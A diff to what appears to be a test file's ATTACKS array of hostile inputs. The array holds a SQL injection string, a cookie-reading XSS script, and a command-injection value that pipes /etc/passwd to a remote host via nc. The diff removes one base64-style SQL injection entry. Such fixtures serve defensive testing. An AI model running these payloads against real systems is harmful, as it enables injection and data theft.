@@ -18,8 +18,6 @@ const ATTACKS = [
   "1' UNION SELECT username,password FROM users-- -",
   '<script>alert(document.cookie)</script>',
   '; cat /etc/passwd | nc 10.1.1.1 99',
-  // With plus signs for spaces it is in the alphabet of base64.
-  '1 UNION SELECT password FROM Users9',
 ]
 
 let backends: AllBackends
